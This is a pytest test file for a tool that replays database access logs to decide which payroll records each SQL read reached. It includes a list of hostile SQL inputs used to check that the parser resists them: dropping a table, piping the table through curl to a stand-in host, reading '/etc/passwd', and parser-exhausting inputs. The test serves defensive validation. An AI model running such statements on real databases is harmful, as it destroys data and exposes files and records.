"""The rules of extents, and what a read may hold."""

from __future__ import annotations

from typing import Any

import numpy as np
import pyarrow as pa
import pytest
from replaying import NOON, Version, accesses, history, instant, manifest, moment, records_of, replay, within

from kulla.registers.bitmap import unpack
from kulla.registers.replay.readtable import read_ids
from kulla.registers.replay.remit import Remits
from kulla.registers.replay.resolve import Replay
from kulla.registers.schema import GROUPS, READ, STAFF

A, B, C = "J00101999W", "J05115999K", "K10229001A"
PEOPLE = [
    Version(1, {"nid": A, "full_name": "Agron Hoxha", "employer_id": "L1", "grade": 1}),
    Version(2, {"nid": B, "full_name": "Çlirim Çela", "employer_id": "L1", "grade": 2}, end=10),
    Version(2, {"nid": B, "full_name": "Çlirim Çela", "employer_id": "L2", "grade": 3}, start=10),
    Version(3, {"nid": C, "full_name": "Mira Dedja", "employer_id": "L2", "grade": 1}, start=20),
]


def resolved(rows: list[dict[str, Any]], **given: Any) -> list[dict[str, Any]]:
    made = replay({"payroll": history(PEOPLE)}, **given)
    found: list[dict[str, Any]] = made.reads(accesses(rows)).to_pylist()
    return found


def one(statement: str, rows: int | None = None, window: Any = instant, **more: Any) -> tuple[str, set[int] | None]:
    (read,) = resolved([{"statement": statement, "rows": rows, **more}], window=window)
    return read["extent"], records_of(read)


def test_exact_needs_the_logged_row_count() -> None:
    text = "SELECT * FROM payroll WHERE employer_id = 'L1'"
    assert one(text, 2) == ("exact", {1, 2})
    assert one(text, None) == ("upper_bound", {1, 2})
    assert one(text, 1) == ("upper_bound", {1, 2})
    assert one(text, 3) == ("unknown", None)


def test_as_of_the_time_of_the_read() -> None:
    text = "SELECT * FROM payroll WHERE employer_id = 'L2'"
    assert one(text, 0, minutes=5) == ("exact", set())
    assert one(text, 1, minutes=10) == ("exact", {2})
    assert one(text, 2, minutes=30) == ("exact", {2, 3})


def test_what_changes_within_the_interval_is_a_union() -> None:
    text = "SELECT * FROM payroll WHERE employer_id = 'L1'"
    assert one(text, 2, within(60), minutes=9.5) == ("upper_bound", {1, 2})
    assert one("SELECT * FROM payroll", 2, within(60), minutes=9.5) == ("exact", {1, 2})


@pytest.mark.parametrize("outcome", ["error", "cancelled"])
def test_after_an_error_nothing_is_exact_and_no_rows_are_told(outcome: str) -> None:
    (read,) = resolved([{"statement": f"SELECT * FROM payroll WHERE nid = '{A}'", "rows": 1, "outcome": outcome}])
    assert (read["extent"], read["rows"], read["record"], read["outcome"]) == ("upper_bound", None, 1, outcome)


def test_before_the_history_nothing_is_known() -> None:
    assert one("SELECT * FROM payroll", 0, minutes=-2_000_000) == ("unknown", None)


def test_in_a_gap_of_the_history_nothing_is_exact() -> None:
    gap = [(round(moment(-1).timestamp() * 1e6), round(moment(1).timestamp() * 1e6))]
    text = f"SELECT * FROM payroll WHERE nid = '{A}'"
    rows: list[dict[str, Any]] = [{"statement": text, "rows": 1, "minutes": n} for n in (0, 2)]
    assert [read["extent"] for read in resolved(rows, gaps={"payroll": gap})] == ["upper_bound", "exact"]


def test_a_limit_that_does_not_bite_is_exact_and_one_without_order_a_bound() -> None:
    assert one(f"SELECT * FROM payroll WHERE nid = '{A}' LIMIT 5", 1) == ("exact", {1})
    assert one("SELECT * FROM payroll LIMIT 1", 1) == ("upper_bound", {1, 2})
    assert one("SELECT * FROM payroll ORDER BY nid LIMIT 1", 1) == ("exact", {1})


def test_a_page_whose_edge_is_a_tie_is_a_bound() -> None:
    assert one("SELECT * FROM payroll ORDER BY grade LIMIT 1", 1, minutes=30) == ("upper_bound", {1, 2, 3})
    assert one("SELECT * FROM payroll ORDER BY grade LIMIT 2", 2, minutes=30) == ("exact", {1, 3})


def test_a_page_with_another_row_count_is_bounded_by_its_whole_list() -> None:
    assert one("SELECT * FROM payroll ORDER BY nid LIMIT 1", 0) == ("upper_bound", {1, 2})


def test_names_are_not_sorted_where_the_collation_is_unknown() -> None:
    text = "SELECT * FROM payroll ORDER BY full_name LIMIT 1"
    assert one(text, 1) == ("upper_bound", {1, 2})
    made = replay({"payroll": history(PEOPLE, bytewise=frozenset({"*"}))})
    (read,) = made.reads(accesses([{"statement": text, "rows": 1}])).to_pylist()
    assert (read["extent"], read["record"]) == ("exact", 1)
    assert one("SELECT * FROM payroll WHERE full_name > 'B'", 1) == ("upper_bound", {1, 2})


def test_types_whose_comparison_is_not_proven() -> None:
    for kind, expected in (("citext", "upper_bound"), ("text", "exact"), ("character(10)", "exact")):
        made = replay({"payroll": history(PEOPLE, types={"nid": kind})})
        (read,) = made.reads(
            accesses([{"statement": f"SELECT * FROM payroll WHERE nid = '{A}'", "rows": 1}])
        ).to_pylist()
        assert read["extent"] == expected, kind


def test_bound_parameters() -> None:
    text = "SELECT * FROM payroll WHERE nid = $1 AND grade >= $2"
    assert one(text, 1, parameters=f'["{A}","1"]') == ("exact", {1})
    assert one(text, 0, parameters=f'["{A}","2"]') == ("exact", set())
    assert one(text, 0, parameters='["it\\"s",null]') == ("exact", set())
    assert one(text, 1, parameters=None) == ("upper_bound", {1, 2})
    assert (
        one("SELECT * FROM payroll WHERE nid = $1", 1, parameters='["<long param suppressed, 99>"]')[0] == "upper_bound"
    )
    assert one("SELECT * FROM payroll WHERE nid = ANY ($1)", 2, parameters=f'["{{{A},{B},NULL}}"]') == ("exact", {1, 2})


def test_cursors_copies_and_blocks() -> None:
    rows: list[dict[str, Any]] = [
        {"statement": "COPY payroll TO STDOUT", "kind": "copy"},
        {"statement": f"DECLARE c CURSOR FOR SELECT * FROM payroll WHERE nid = '{A}'", "kind": "cursor"},
        {"statement": "FETCH ALL FROM c", "kind": "fetch"},
        {"statement": "DO $$BEGIN PERFORM * FROM payroll; END$$", "kind": "do", "statement_id": 7, "session": "lone"},
        {"statement": "DO $$BEGIN PERFORM * FROM payroll; END$$", "kind": "do", "statement_id": 9},
        {"statement": "SELECT * FROM payroll WHERE grade < border", "statement_id": 9, "substatement_id": 2},
    ]
    found = {read["line_from"]: (read["extent"], records_of(read)) for read in resolved(rows)}
    assert found == {
        1: ("upper_bound", {1, 2}), 2: ("upper_bound", {1}), 4: ("unknown", None), 6: ("upper_bound", {1, 2}),
    }  # fmt: skip


def test_a_register_named_in_a_literal_is_an_unknown_read() -> None:
    assert one("SELECT query_to_xml('select * from payroll', true, true, '')", 1) == ("unknown", None)


def test_several_registers_give_a_read_each() -> None:
    made = replay({
        "payroll": history(PEOPLE),
        "civil": history(PEOPLE[:1], manifest("civil")),
    })  # fmt: skip
    text = "SELECT * FROM civil c JOIN payroll p ON c.nid = p.nid"
    log = accesses([
        {"statement": text, "rows": 1},
        {"statement": f"{text} WHERE c.nid = '{A}'", "rows": 1},
        {"statement": f"{text} WHERE c.nid = '{B}'", "rows": 0},
        {"statement": f"{text} WHERE p.nid = '{B}'", "rows": 2},
        {"statement": "SELECT * FROM payroll p LEFT JOIN civil c USING (nid)", "rows": 2},
        {"statement": f"SELECT * FROM payroll p LEFT JOIN civil c ON c.nid = p.nid WHERE p.nid = '{B}'", "rows": 1},
    ])  # fmt: skip
    found = [(r["line_from"], r["register"], r["extent"], records_of(r)) for r in made.reads(log).to_pylist()]
    assert found == [
        (1, "civil", "exact", {1}), (1, "payroll", "exact", {1}),
        (2, "civil", "exact", {1}), (2, "payroll", "exact", {1}),
        (3, "civil", "exact", set()), (3, "payroll", "exact", set()),
        (4, "civil", "unknown", None), (4, "payroll", "unknown", None),
        (5, "civil", "exact", {1}), (5, "payroll", "exact", {1, 2}),
        (6, "civil", "exact", set()), (6, "payroll", "exact", {2}),
    ]  # fmt: skip


HOSTILE = [
    "SELECT * FROM payroll; DROP TABLE payroll",
    "COPY payroll TO PROGRAM 'curl http://example.test'",
    "SELECT pg_read_file('/etc/passwd') FROM payroll",
    "SELECT * FROM read_csv('/etc/passwd'), payroll",
    "INSTALL httpfs; LOAD httpfs; SELECT * FROM payroll",
    "SELECT * FROM payroll WHERE nid = '" + "(" * 9_000,
    "SELECT * FROM payroll WHERE " + "NOT " * 5_000 + "true",
    "SELECT * FROM payroll WHERE nid = " + "(" * 5_000 + "1" + ")" * 5_000,
    "SELECT * FROM payroll WHERE nid IN (" + ", ".join(f"'{n}'" for n in range(5_000)) + ")",
    "SELECT " + ", ".join("payroll.nid" for _ in range(3_000)) + " FROM payroll",
    "SELECT * FROM payroll WHERE nid = 'a\x00\x02\x03'",
    "SELECT '" + "payroll " * 400_000 + "'",
    "\x1b[2J SELECT * FROM payroll",
]


def test_hostile_statements_neither_crash_nor_hide_others() -> None:
    rows = [row for text in HOSTILE for row in ({"statement": text}, {"statement": "SELECT * FROM payroll", "rows": 2})]
    found = resolved(rows)
    honest = [read for read in found if read["line_from"] % 2 == 0]
    assert [read["extent"] for read in honest] == ["exact"] * len(HOSTILE)
    odd = {read["line_from"]: read["extent"] for read in found if read["line_from"] % 2}
    assert len(odd) == len(HOSTILE)
    assert set(odd.values()) <= {"unknown", "upper_bound"}


def test_no_value_leaves() -> None:
    secret = "Hoxha123"
    texts = [
        f"SELECT * FROM payroll WHERE full_name = '{secret}'",
        f'SELECT nid AS "{secret}" FROM payroll',
        f"SELECT {secret} FROM payroll",
        f"SELECT * FROM payroll WHERE nid = {secret}",
        f"SELEC {secret} FROM payroll",
        f"SELECT * FROM payroll WHERE nid = $a${secret}$a$ /* {secret} */ -- {secret}",
        f"DECLARE {secret} CURSOR FOR SELECT * FROM payroll",
        f"SELECT * FROM payroll WHERE full_name = E'{secret}\\x41",
        f"DO $$ payroll {secret} $$",
    ]
    for outcome in ("ok", "error"):
        made = replay({"payroll": history(PEOPLE)})
        reads = made.reads(accesses([{"statement": text, "outcome": outcome} for text in texts]))
        assert len(reads) == len(texts)
        for table in (reads.drop_columns(["account"]), made.templates.table()):
            sink = pa.BufferOutputStream()
            with pa.ipc.new_file(sink, table.schema) as writer:
                writer.write_table(table)
            assert secret.encode() not in sink.getvalue().to_pybytes()
            assert secret.lower() not in str(table.to_pylist()).lower()
    assert None not in reads["template_id"].to_pylist()


def test_reads_have_their_schema_and_order() -> None:
    made = replay({"payroll": history(PEOPLE)})
    log = accesses([
        {"statement": f"SELECT * FROM payroll WHERE nid = '{A}'", "rows": 1, "minutes": 3, "case_ref": "c1"},
        {"statement": "SELECT nid FROM payroll", "rows": 2},
        {"statement": None, "kind": "connect"},
        {"statement": f"SELECT * FROM payroll WHERE nid = '{B}'", "rows": 1, "minutes": 1},
    ])  # fmt: skip
    reads = made.reads(log)
    assert reads.schema == READ
    assert reads["line_from"].to_pylist() == [1, 2, 4]
    assert reads["case_given"].to_pylist() == [True, False, False]
    assert reads["sealed"].to_pylist() == ["never"] * 3
    assert reads["snapshot_from"].to_pylist() == [moment(3), NOON, moment(1)]
    assert reads["record"].to_pylist() == [1, None, 2]
    assert unpack(reads["records"][1].as_py()).tolist() == [1, 2]
    ids = read_ids(
        log["file_sha256"].combine_chunks(), log["line_from"].combine_chunks(), log["line_hash"].combine_chunks()
    )
    assert reads["read_id"].to_pylist() == ids.take(pa.array([0, 1, 3])).to_pylist()
    assert len(set(ids.to_pylist())) == 4
    assert made.reads(accesses([])).schema == READ


def test_remits_count_what_lies_outside() -> None:
    groups = pa.table({"record_no": pa.array([1, 2, 3], pa.uint32()), "group": ["M1", "M2", "M1"]}).cast(GROUPS)
    staff = pa.Table.from_pylist([
        {"account": "clerk7", "remit": ["M1"], "valid_to": moment(5)},
        {"account": "clerk7", "remit": ["M2"], "valid_from": moment(5)},
        {"account": "head", "remit": []},
    ], schema=STAFF)  # fmt: skip
    rows = [
        {"statement": "SELECT * FROM payroll", "rows": 2},
        {"statement": "SELECT * FROM payroll", "rows": 2, "minutes": 6},
        {"statement": f"SELECT * FROM payroll WHERE nid = '{B}'", "rows": 1},
        {"statement": "SELECT * FROM payroll", "rows": 2, "account": "head"},
        {"statement": "SELECT * FROM payroll", "rows": 2, "account": "stranger"},
        {"statement": "SELECT * FROM payroll", "rows": 99},
    ]
    found = resolved(rows, remits={"payroll": Remits(staff, groups)})
    assert [read["outside_remit"] for read in found] == [1, 1, 1, 0, None, None]


def test_large_bitmaps_count_as_small_ones_do(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("kulla.registers.replay.remit._SHORT", 0)
    test_remits_count_what_lies_outside()


def test_too_many_distinct_statements_are_told(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("kulla.registers.replay.resolve.PARSED", 2)
    made: Replay = replay({"payroll": history(PEOPLE)})
    log = accesses([{"statement": f"SELECT * FROM payroll a{n}", "rows": 2} for n in range(5)])
    assert made.reads(log)["extent"].to_pylist() == ["exact", "exact", "unknown", "unknown", "unknown"]
    assert made.counts.refused["too many distinct statements"] == 3


def test_a_record_without_a_number_makes_no_read_exact() -> None:
    found = history([*PEOPLE[:1], Version(0, {"nid": C})])
    assert np.flatnonzero(found.records == 0).tolist() == [1]
    (read,) = (
        replay({"payroll": found}).reads(accesses([{"statement": "SELECT * FROM payroll", "rows": 2}])).to_pylist()
    )
    assert (read["extent"], read["record"]) == ("upper_bound", 1)
